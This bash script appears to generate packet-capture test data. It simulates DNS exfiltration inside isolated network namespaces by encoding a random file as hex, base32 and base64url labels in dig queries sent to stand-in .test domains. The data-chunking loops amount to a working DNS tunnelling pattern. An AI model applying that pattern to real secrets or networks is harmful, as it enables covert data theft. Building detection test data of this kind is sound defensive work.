#!/usr/bin/env bash
# Records DNS exfiltration with a real client: dig (Debian dnsutils) asking names that carry
# a 1500-byte random file, encoded as a shell one-liner would (hex with `xxd -p`, base32 with
# `base32`, base64url with `base64`), one query per chunk, to dnsmasq (Debian dnsmasq-base)
# that is authoritative for corp.test only (it refuses the rest). Two test-owned network
# namespaces (198.18.0.0/15 only; removed at the end). Usage: record-exfil.sh OUT.pcap
#
# Each dig is a new process, so each query comes from a new source port: one flow per query,
# the tunnel is visible only per client and domain.
set -euo pipefail
out=$(realpath -m "$1")
id=h15ex$$
c=$id-c; s=$id-s
tmp=$(mktemp -d)
pids=()
cleanup() {
  for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done
  sleep 0.5
  ip netns del "$c" 2>/dev/null || true
  ip netns del "$s" 2>/dev/null || true
  rm -rf "$tmp"
}
trap cleanup EXIT
ip netns add "$c"; ip netns add "$s"
ip link add "${id}a" netns "$c" type veth peer name "${id}b" netns "$s"
ip -n "$c" addr add 198.18.52.2/24 dev "${id}a"; ip -n "$c" link set "${id}a" up; ip -n "$c" link set lo up
ip -n "$s" addr add 198.18.52.1/24 dev "${id}b"; ip -n "$s" link set "${id}b" up; ip -n "$s" link set lo up
ip netns exec "$c" ethtool -K "${id}a" tx off >/dev/null 2>&1 || true
ip netns exec "$s" ethtool -K "${id}b" tx off >/dev/null 2>&1 || true
ip netns exec "$s" dnsmasq -k --no-resolv --no-hosts --conf-file=/dev/null --listen-address=198.18.52.1 \
  --bind-interfaces --port=53 --auth-server=ns.corp.test,198.18.52.1 --auth-zone=corp.test \
  --host-record=www.corp.test,198.18.0.20 --pid-file="$tmp/dnsmasq.pid" >"$tmp/dnsmasq.log" 2>&1 & pids+=($!)
sleep 1
ip netns exec "$c" tcpdump -i "${id}a" -s 0 -U -w "$out" 'port 53' >"$tmp/tcpdump.log" 2>&1 & pids+=($!)
sleep 1
head -c 1500 /dev/urandom > "$tmp/secret"
q() { ip netns exec "$c" dig +tries=1 +time=1 +short @198.18.52.1 "$@" >/dev/null 2>&1 || true; }
n=0
# hex, 60 characters a label, two labels a query (dnscat2's layout: data labels, then the domain)
for chunk in $(xxd -p -c 60 "$tmp/secret"); do
  q "${chunk:0:60}.${chunk:60}.$n.x.hexfil.test" TXT; n=$((n+1))
done
# base32, lowercase, 52 characters a label
for chunk in $(base32 -w 52 "$tmp/secret" | tr -d = | tr A-Z a-z); do
  q "$chunk.$n.b32fil.test" A; n=$((n+1))
done
# base64url, 60 characters a label
for chunk in $(base64 -w 60 "$tmp/secret" | tr '+/' '-_' | tr -d =); do
  q "$chunk.$n.b64fil.test" CNAME; n=$((n+1))
done
sleep 1
echo "$n queries"
